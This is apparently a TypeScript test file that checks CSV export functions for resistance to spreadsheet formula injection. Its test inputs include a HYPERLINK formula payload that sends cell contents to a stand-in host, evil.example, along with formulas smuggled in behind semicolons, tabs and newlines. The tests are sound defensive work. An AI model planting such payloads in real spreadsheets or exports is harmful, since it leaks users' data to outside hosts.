import { expect, it } from 'vitest';
import { errorFile } from '../import/error-file.ts';
import { writeCsv } from '@imah/server-platform/audit';

/** The cells as a spreadsheet reads them that splits at this character, whatever the quotation marks say. */
const cellsOf = (csv: string, separator: RegExp) =>
  csv
    .replace(/^\uFEFF/, '')
    .split(separator)
    .map((cell) => cell.replaceAll(/^[",\s]+/g, ''));
const titles = [
  'Air mati;=HYPERLINK("http://evil.example/?"&A1);tolong',
  'Air mati; \t+1',
  'Air mati\t=1+1',
  'Air mati\n=1+1',
  'Air mati;"=1+1',
  ';=1',
  '=1',
  ' @SUM(A1)',
];

it.each(titles)('%j is no formula wherever a spreadsheet splits, in any file', (title) => {
  const files = [
    writeCsv([['TKT-1', title, 'akhir']]),
    errorFile(['judul'], [{ cells: [title], messages: ['salah'] }]),
  ];
  const formulas = files.flatMap((file) => cellsOf(file, /[;\t\r\n]|","/)).filter((cell) => /^[=+\-@]/.test(cell));
  expect(formulas).toEqual([]);
});

it('leaves texts alone that only have such characters inside of a cell', () => {
  expect(writeCsv([['Unit A-1; B-2', 'a = b', -1, null]])).toBe('\uFEFF"Unit A-1; B-2","a = b",-1,\r\n');
});
